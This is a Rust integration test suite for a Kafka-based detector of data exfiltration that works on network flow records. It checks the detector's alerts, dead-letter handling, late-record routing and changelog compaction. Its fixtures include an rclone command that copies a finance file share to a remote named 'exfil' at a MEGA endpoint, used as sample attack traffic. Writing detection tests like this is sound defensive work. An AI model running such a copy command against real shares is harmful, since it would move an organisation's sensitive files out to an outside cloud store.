//! The main job on a real broker: records produced with `replay`, the
//! detector run as a process, alerts, dead letters and late records read
//! back with read_committed.

use nvm_detector_tests::*;
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::time::Duration;

/// 2026-07-14T09:00:00Z.
const T0: i64 = 1_784_019_600;

fn flow(secs: i64, host: &str, pn: &str, parg: &str, port: &str) -> String {
    json!({
        "fv": "nvzFlow_v11", "pr": "6", "sa": host, "sp": "50000", "da": "66.203.125.15",
        "dp": port, "dh": "g.api.mega.co.nz", "fss": secs.to_string(),
        "fsms": format!("{secs}000"), "pn": pn, "ppath": format!(r"C:\Tools\{pn}"),
        "parg": parg, "pid": "4242", "ph": "AA11", "pil": "12288",
        "pppath": r"C:\Windows\System32\cmd.exe", "ppil": "12288",
    })
    .to_string()
}

fn run_args(topics: &TestTopics, extra: &[&str]) -> Vec<String> {
    let mut args = vec![
        "run".to_owned(),
        "--group-id".into(),
        topics.group.clone(),
        "--exit-when-idle-ms".into(),
        "1500".into(),
    ];
    args.extend(topics.flags());
    args.extend(extra.iter().map(|s| s.to_string()));
    args
}

fn replay(topics: &TestTopics, file: &std::path::Path) {
    replay_file(topics, file);
}

#[test]
fn records_in_alerts_dead_letters_and_late_records_out() {
    let topics = TestTopics::unique("e2e");
    topics.create(3);
    let copy = r"copy \\fs01\finance remote:exfil --transfers 16";
    let lines = vec![
        flow(T0 + 10, "10.9.0.1", "rclone.exe", copy, "443"),
        flow(T0 + 20, "10.9.0.1", "rclone.exe", copy, "80"),
        "{\"fv\":\"nvzFlow_v11\",\"fss\":".to_owned(),
        flow(T0 + 30, "10.9.0.1", "chrome.exe", "--type=gpu", "443"),
        flow(T0 + 40, "10.9.0.1", "rclone.exe", copy, "443"),
        // Moves host 10.9.0.1's partition two hours on...
        flow(T0 + 7_200, "10.9.0.1", "chrome.exe", "", "443"),
        // ...so this record of the first hour is late.
        flow(T0 + 50, "10.9.0.1", "rclone.exe", copy, "21"),
        "<13>Jul 14 09:00:00 host sshd[12]: not a flow".to_owned(),
    ];
    replay(&topics, &temp_file("basic.log", &lines));

    let out = run_ok(&run_args(&topics, &[]), Duration::from_secs(120));
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(log.contains("input drained"), "{log}");

    let alerts = read(&topics.alerts);
    let docs = documents(&alerts);
    let statuses: Vec<&str> = docs.iter().map(|d| d["status"].as_str().unwrap()).collect();
    assert_eq!(statuses.first(), Some(&"new"), "{statuses:?}");
    let finals: Vec<&Value> = docs.iter().filter(|d| d["status"] == "final").collect();
    assert_eq!(finals.len(), 1, "{docs:#?}");
    let f = finals[0];
    assert_eq!(f["count"], 3, "the late record is not counted");
    assert_eq!(f["result"]["dest_port"], json!(["443", "80"]));
    assert_eq!(f["result"]["firstTime"], "2026-07-14T09:00:10");
    assert_eq!(f["result"]["lastTime"], "2026-07-14T09:00:40");
    // Every alert of the group shares the id, and the message key is the id.
    for (m, d) in alerts.iter().zip(&docs) {
        assert_eq!(d["alert_id"], f["alert_id"]);
        assert_eq!(
            m.key.as_deref(),
            Some(f["alert_id"].as_str().unwrap().as_bytes())
        );
        assert_eq!(m.header("nvm.alert.status"), d["status"].as_str());
    }

    let dead = read(&topics.dlq);
    let mut reasons: Vec<&str> = dead
        .iter()
        .filter_map(|m| m.header("nvm.dlq.reason"))
        .collect();
    reasons.sort();
    assert_eq!(reasons, ["bad_json", "no_fields"]);
    for m in &dead {
        assert_eq!(m.header("nvm.source.topic"), Some(topics.input.as_str()));
        assert!(m
            .header("nvm.source.offset")
            .is_some_and(|o| o.parse::<i64>().is_ok()));
        assert!(
            lines.iter().any(|l| l.as_bytes() == m.payload),
            "payload kept as sent"
        );
    }

    let late = read(&topics.late);
    assert_eq!(late.len(), 1);
    assert_eq!(late[0].payload, lines[6].as_bytes());
    assert_eq!(
        late[0].header("nvm.late.event_time"),
        Some("2026-07-14T09:00:50Z")
    );
}

#[test]
fn stream_and_scan_agree_on_the_bundled_data_set() {
    let data = repo().join("data/nvm-flows.log");
    let topics = TestTopics::unique("agree");
    topics.create(3);
    replay(&topics, &data);
    run_ok(&run_args(&topics, &[]), Duration::from_secs(300));

    let scan = run_ok(
        &["scan".to_owned(), data.display().to_string()],
        Duration::from_secs(120),
    );
    let expected: BTreeMap<String, Value> = String::from_utf8_lossy(&scan.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|d| (d["alert_id"].as_str().unwrap().to_owned(), d))
        .collect();
    assert!(
        expected.len() >= 3,
        "the data set should raise several alerts"
    );

    let streamed: BTreeMap<String, Value> = documents(&read(&topics.alerts))
        .into_iter()
        .filter(|d| d["status"] == "final")
        .map(|d| (d["alert_id"].as_str().unwrap().to_owned(), d))
        .collect();
    assert_eq!(
        streamed.len(),
        expected.len(),
        "one final per group, none lost or doubled"
    );
    for (id, doc) in &expected {
        assert_eq!(streamed.get(id), Some(doc), "final {id} differs");
    }

    // Scan reports malformed lines on stderr; the stream dead-letters them.
    let stderr = String::from_utf8_lossy(&scan.stderr);
    let malformed = stderr
        .lines()
        .filter(|l| l.contains(".log:") && !l.contains("late record"))
        .count();
    assert_eq!(read(&topics.dlq).len(), malformed);
}

#[test]
fn the_changelog_is_created_compacted() {
    use rdkafka::admin::{AdminClient, AdminOptions, ResourceSpecifier};
    use rdkafka::client::DefaultClientContext;
    let topics = TestTopics::unique("compact");
    topics.create(2);
    run_ok(&run_args(&topics, &[]), Duration::from_secs(120));

    let admin: AdminClient<DefaultClientContext> = rdkafka::ClientConfig::new()
        .set("bootstrap.servers", bootstrap_servers())
        .create()
        .expect("admin client");
    let changelog = format!("{}.changelog", topics.group);
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let described = runtime
        .block_on(admin.describe_configs(
            [&ResourceSpecifier::Topic(&changelog)],
            &AdminOptions::new(),
        ))
        .expect("describing the changelog");
    let config = described
        .into_iter()
        .next()
        .expect("one resource")
        .expect("the changelog exists");
    let policy = config
        .get("cleanup.policy")
        .and_then(|e| e.value.clone())
        .unwrap_or_default();
    assert_eq!(policy, "compact", "{changelog} cleanup.policy");
}
